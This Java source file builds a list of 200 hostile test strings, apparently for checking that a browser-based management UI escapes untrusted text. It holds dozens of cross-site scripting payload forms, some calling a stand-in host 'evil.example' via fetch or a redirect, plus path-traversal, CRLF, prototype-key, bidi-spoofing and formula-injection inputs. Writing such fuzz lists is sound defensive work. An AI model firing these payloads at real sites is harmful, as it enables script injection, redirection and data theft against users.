package dev.baton.management.browser;

import java.util.ArrayList;
import java.util.List;

/** Texts that have an effect if a program treats them as code. */
final class HostileTexts {
  static final int MANY = 200;

  /** Programs that open a dialog or report themselves if they run. */
  private static final List<String> PROGRAMS =
      List.of(
          "alert(%d)",
          "confirm(%d)",
          "top.location='//evil.example/%d'",
          "fetch('//evil.example/%d')",
          "window.witness.push('ran %d')");

  /** Forms in which a program may be hidden. */
  private static final List<String> GUISES =
      List.of(
          "<script>%s</script>",
          "</script><script>%s</script>",
          "<img src=x onerror=\"%s\">",
          "\"><img src=x onerror='%s'>",
          "'><svg onload=%s>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>",
          "</title><script>%s</script>",
          "</textarea><script>%s</script>",
          "--><script>%s</script><!--",
          "]]><script>%s</script>",
          "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
          "<a href=\"javascript:%s\">x</a>",
          "javascript:%s",
          "JaVaScRiPt://x%%0a%s",
          "data:text/html,<script>%s</script>",
          "\" autofocus onfocus=\"%s",
          "' style='animation-name:x' onanimationstart='%s",
          "`${%s}`",
          "{{constructor.constructor(\"%s\")()}}",
          "${%s}",
          "<%%= %s %%>",
          "';%s;//",
          "\\\";%s;//",
          "\\u003cscript\\u003e%s\\u003c/script\\u003e",
          "&lt;script&gt;%s&lt;/script&gt;",
          "%%3Cscript%%3E%s%%3C/script%%3E",
          "<math><mtext><script>%s</script>",
          "<details open ontoggle=%s>",
          "<style>@import 'javascript:%s'</style>",
          "<link rel=stylesheet href=\"javascript:%s\">",
          "<base href=\"javascript:%s//\">",
          "<meta http-equiv=refresh content=\"0;javascript:%s\">",
          "<object data=\"javascript:%s\"></object>",
          "<form action=\"javascript:%s\"><button>x</button></form>",
          "<video><source onerror=\"%s\">",
          "<x contenteditable onblur=%s>",
          "<template><script>%s</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=%s>\">");

  /** Unusual texts that are no programs. */
  private static final List<String> ODD =
      List.of(
          "__proto__",
          "constructor",
          "toString",
          "hasOwnProperty",
          "null",
          "undefined",
          "NaN",
          "[object Object]",
          "#/tasks?status=ERROR",
          "../../../etc/passwd",
          "%00%0d%0a",
          "\"",
          "'",
          "\\",
          "&amp;",
          "<",
          "</bdi>",
          "\u202Etxt.exe",
          "\u2066\u202Eabc\u2069",
          "a\u0301\u0301\u0301",
          "\uD83D\uDC69\u200D\uD83D\uDE80",
          "a\u2028line",
          "\uFEFFmark",
          "pay\uDB40\uDC41out",
          "=1+1",
          "{\"a\":1}");

  private HostileTexts() {}

  /** Returns different texts of at most this many characters. */
  static List<String> texts(int longest) {
    List<String> texts = new ArrayList<>(ODD);
    for (int number = 1; texts.size() < MANY; number++) {
      String program = PROGRAMS.get(number % PROGRAMS.size()).formatted(number);
      String text = GUISES.get(number % GUISES.size()).formatted(program);
      if (text.length() <= longest) {
        texts.add(text);
      }
    }
    return texts.subList(0, MANY);
  }
}
